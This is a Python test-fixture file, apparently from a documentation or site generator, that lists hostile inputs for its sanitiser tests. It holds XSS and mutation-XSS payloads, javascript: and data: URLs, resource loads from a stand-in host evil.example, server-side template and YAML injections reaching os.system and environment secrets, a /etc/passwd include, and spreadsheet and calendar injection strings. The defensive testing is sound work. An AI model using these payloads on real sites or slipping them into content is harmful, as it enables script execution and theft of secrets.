"""Texts that try to run something in a reader's browser, to ask another host, or to be taken for a template.

``hit()`` is the function that the tests count calls of; ``//evil.example`` is the host that no page may ask.
"""

from __future__ import annotations

# Elements and attributes that run on their own.
RUNNING = (
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT\t>",
    "<script src=//evil.example/a.js></script>",
    "<script/src=data:,hit()></script>",
    "<<script>hit()//<</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script type=module>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror='hit()' alt=\"a",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src/onerror=hit()>",
    "<img src=x\x0conerror=hit()>",
    "<img src=`x`onerror=hit()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onload to=hit()></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    "<svg><use href=//evil.example/a.svg#x></use></svg>",
    "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=hit()></style></mglyph></table></mtext></math>",
    "<math href=javascript:hit()>x</math>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<body onload=hit()>",
    "<body onpageshow=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<style>@keyframes x{}*{animation:x}</style><p style=animation-name:x onanimationstart=hit()>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=//evil.example/x.swf>",
    "<template><img src=x onerror=hit()></template>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<textarea><img title="</textarea><img src=x onerror=hit()>">',
    '<title><img title="</title><img src=x onerror=hit()>">',
    '<xmp><img title="</xmp><img src=x onerror=hit()>">',
    "<!--><img src=x onerror=hit()>-->",
    "<!-- --!><img src=x onerror=hit()> -->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml version='1.0'?><img src=x onerror=hit()>",
    "<form><button formaction=javascript:hit()>x</button></form>",
    "<form id=x></form><button form=x formaction=//evil.example>x</button>",
    "<p onmouseover=hit() onclick=hit() tabindex=0 onfocus=hit() autofocus>x</p>",
    "<a href=x onpointerenter=hit()>x</a>",
    "<div popover id=p onbeforetoggle=hit()>x</div><button popovertarget=p>x</button>",
)
# Markup that is read one way when it is cleaned and another way in the page, since SVG and MathML have rules of their own.
NAMESPACES = (
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=hit() src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<svg><title><style><img src=x onerror=hit()></style></title></svg>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml></math>',
    '<svg><desc><noscript><img alt="</noscript><img src=x onerror=hit()>"></desc></svg>',
    "<svg><p><style><!--</style><img src onerror=hit()>-->",
    '<p id="</p><img src=x onerror=hit()>">',
    "<a><table><td></a><img src=x onerror=hit()>",
    "<select><template><style><img src onerror=hit()></style></template></select>",
    '<!--<img src="--><img src=x onerror=hit()//">',
    "<!--[if IE]><script>hit()</script><![endif]--><![if IE]><img src=x onerror=hit()><![endif]>",
)
# Out of an attribute, an element, a comment, a title, a script of data.
BREAKING_OUT = (
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "--></title></style></script></textarea></noscript></template><img src=x onerror=hit()>",
    "</script><script>hit()</script>",
    "</title><script>hit()</script>",
    "</main></body></html><script>hit()</script>",
    "</h1></a></li></td></table><img src=x onerror=hit()>",
    '\\"};hit();//',
    "\\u003cimg src=x onerror=hit()\\u003e",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;",
    "＜img src=x onerror=hit()＞",
    "]]></text></svg><script>hit()</script>",
)
# Addresses: in Markdown, in HTML, by themselves.
ADDRESSES = (
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](&#106;avascript:hit())",
    "[x](java&Tab;script:hit())",
    "[x](javascript&colon;hit())",
    "[x](<java\tscript:hit()>)",
    "[x](\x01javascript:hit())",
    "[x](vbscript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/\\evil.example)",
    "[x](file:///etc/passwd)",
    "<javascript:hit()>",
    '<a href=" javascript:hit()">x</a>',
    "<a href=javascript&#58;hit()>x</a>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:hit())",
    "![x](data:image/svg+xml,<svg/onload=hit()>)",
    '<img srcset="//evil.example/a.png 1x" src=//evil.example/b.png>',
    '<p style="background:url(//evil.example/c.png)">x</p>',
    "<table background=//evil.example/d.png><tr><td>x</table>",
    "<link rel=stylesheet href=//evil.example/e.css>",
    "<link rel=preload as=image href=//evil.example/f.png>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<video poster=//evil.example/g.png></video>",
    "<style>@import '//evil.example/h.css'</style>",
    '[r]\n\n[r]: javascript:hit() "title"',
    "[a][j]\n\n[j]: <java\nscript:hit()>",
    "[D]\n\n[d]: data:text/html,<script>hit()</script>",
    "![p][p]\n\n[p]: //evil.example/i.png 'x'",
    '[x](y "\\" onfocus=hit() autofocus x=\\"")',
    '![" onerror=hit() x="](a.png "\\" onerror=hit() \\"")',
    "[x](jav&#x0A;ascript:hit())",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit())",
    "[x](javascript&#0058;hit())",
    "[x](feed:javascript:hit())",
    "[x](blob:https://evil.example/x)",
    "[x](///evil.example)",
    "[x](http:/\\evil.example)",
    "<data:text/html,<script>hit()</script>>",
    '<https://evil.example/"onmouseover=hit()//>',
    '<a href="&#14;javascript:hit()">x</a>',
    '<p style="position:fixed;inset:0;z-index:9;background:\\75 rl(//evil.example/j)">x</p>',
    "<p style=behavior:url(//evil.example/k.htc)>x</p>",
)
# Names that scripts look for, and attribute lists of Markdown extensions.
CLOBBERING = (
    "<a id=main></a><a id=search-results name=location></a>",
    "<img name=getElementById><form name=body><input name=firstChild></form>",
    "## Heading {: onclick=hit() #main }",
    "![x](a.png){ onerror=hit() }",
    "[x](y){: target=_blank onclick=hit() }",
    "*x*{onclick=hit()}\n{: .foot onclick=hit() }",
)
# The product is 1787569: it may stand in no output.
TEMPLATES = (
    "{{ 1337*1337 }}",
    "{{1337*1337}}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{% if 1 %}{{ 1337*1337 }}{% endif %}",
    "{%raw%}{{ 1337*1337 }}{%endraw%}",
    "{{ cycler.__init__.__globals__.os.environ.SECRET_OF_THE_TEST }}",
    "{{ self._TemplateReference__context }}{{ config }}",
    "{# comment #}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(SECRET_OF_THE_TEST)s {SECRET_OF_THE_TEST} {0.__class__} {name}",
    '--8<-- "/etc/passwd"',
    "[[${1337*1337}]] @(1337*1337) {{=1337*1337}} <#assign x=1337*1337>${x}",
    "{{constructor.constructor('hit()')()}}",
)
# Settings that a YAML file of MkDocs would run.
SETTINGS = (
    "!!python/object/apply:os.system ['echo hit']",
    "!!python/name:os.system",
    "!ENV SECRET_OF_THE_TEST",
    "!ENV [SECRET_OF_THE_TEST, fallback]",
    "$SECRET_OF_THE_TEST ${SECRET_OF_THE_TEST} %SECRET_OF_THE_TEST%",
)
# What a spreadsheet takes for a formula.
FORMULAS = (
    '=HYPERLINK("https://evil.example","x")',
    "+1337*1337",
    "-1337*1337",
    "@SUM(1337*1337)",
)
# A line that would begin a new entry in a calendar.
LINES = ("x\\nEND:VEVENT\\nBEGIN:VEVENT\\nURL:https://evil.example", "x\rATTACH:https://evil.example/a")

PAYLOADS = RUNNING + NAMESPACES + BREAKING_OUT + ADDRESSES + CLOBBERING + TEMPLATES + SETTINGS + FORMULAS + LINES
# Control characters are refused in programme.yaml and in pages of the content folder alike.
TYPED = tuple(payload for payload in PAYLOADS if payload.isprintable() or "\n" in payload)
SECRET = "s3cret-of-the-surroundings"
PRODUCT = "1787569"
